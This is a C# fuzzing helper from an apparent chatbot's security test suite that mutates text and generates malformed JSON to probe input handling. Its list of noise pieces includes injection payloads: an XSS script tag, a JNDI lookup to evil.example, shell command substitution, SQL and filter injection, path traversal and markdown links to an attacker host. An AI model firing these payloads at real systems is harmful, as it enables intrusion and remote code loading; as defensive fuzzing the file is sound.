using System.Text.Json;

namespace KompetenzBot.Tests.Security.Fuzzing;

/// <summary>Values and texts that no client of ours sends, by chance.</summary>
internal static class Noise
{
    /// <summary>Stands for half of a character, which JSON can say and a text cannot hold.</summary>
    public const string Half = "\uE000";

    private static readonly string[] Pieces =
    [
        "", " ", "\t", "\n", "\r\n", "\0", "\u0007", "\u00a0", "\u200d", "\u202e", "\ufeff", "\u0301", "🚒", "👩‍🚒", "𝔄", "ﷺ", Half, "'", "''", "\"", "`", "\\", "/", "..", "../..", "%2e%2e%2f", "%00", "#", "?", "?a=b", "|", "||",
        "<b>", "<script>alert(1)</script>", "&amp;", "[x](https://evil.example)", "![](https://evil.example/x.png)", "**", "~~", "> ", "# ", "{{DATE(2026-01-01,SHORT)}}", "${x}", "{0}", "{99}", "%s", "%n", "=1+1", "@SUM(A1)",
        "' or '1' eq '1", "PartitionKey ge ''", "; drop table", "$(id)", "${jndi:ldap://evil.example/a}", "und", "oder", "nicht", "(", ")", "((((((((", ":", ":C", ">=", ">=B2", "ab B1", "+", "5", "-5", "0", "٣", "1e9", "99999999999999999999",
        "2147483648", "-9223372036854775809", "79228162514264337593543950336", "0.1", "NaN", "8-8", "24:00", "25:61", "31.2.", "0.0.0000", "9999-12-31", "0001-01-01", "bis", "morgen", "sofort", "heute 18-22 Uhr", "Führerschein C", "Arabisch", "sanitäter",
    ];

    private static readonly string[] Json =
    [
        "null", "true", "false", "0", "-1", "1e400", "-1e-400", "0.000000000000000000000000000001", "79228162514264337593543950336", "\"\"", "\" \"", "[]", "[null]", "[[]]", "[{}]", "{}", "{\"\":null}", "{\"id\":null}", "[{\"id\":7}]",
        "\"2026-13-45T99:00:00\"", "\"../../..?a=b#c\"", "\"true\"", "\"00000000-0000-0000-0000-000000000000\"", $"\"{Half}\"", $"{{\"{Half}\":\"{Half}\"}}", $"\"{new string('ä', 5_000)}\"",
        "[{\"type\":\"mention\",\"text\":\"x\",\"mentioned\":null}]", "[{\"contentType\":null,\"content\":[null]}]", "{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":[[[[[[[[]]]]]]]]}}}}}}}}",
    ];

    /// <summary>One of them.</summary>
    public static T Of<T>(this Random random, IReadOnlyList<T> choices) => choices[random.Next(choices.Count)];

    /// <summary>True once in so many cases.</summary>
    public static bool OneIn(this Random random, int cases) => random.Next(cases) == 0;

    /// <summary>A piece of JSON that may stand anywhere.</summary>
    public static string Value(Random random) => random.OneIn(3) ? $"\"{Escaped(Text(random, string.Empty))}\"" : random.Of(Json);

    /// <summary>A text after some strokes of bad luck.</summary>
    public static string Text(Random random, string text)
    {
        for (var strokes = random.Next(5); strokes > 0; strokes--)
        {
            var at = random.Next(text.Length + 1);
            var until = random.Next(at, text.Length + 1);
            text = random.Next(9) switch
            {
                0 => text[..at],
                1 => text[..at] + text[until..],
                2 => text[..until] + text[at..],
                3 => new string([.. text.Reverse()]),
                4 when text.Length is > 0 and < 200 => string.Concat(Enumerable.Repeat(text, random.Next(2, 60))),
                _ => text[..at] + random.Of(Pieces) + text[at..],
            };
        }

        return text;
    }

    /// <summary>The inside of a JSON string.</summary>
    public static string Escaped(string text) => JsonSerializer.Serialize(text)[1..^1];
}
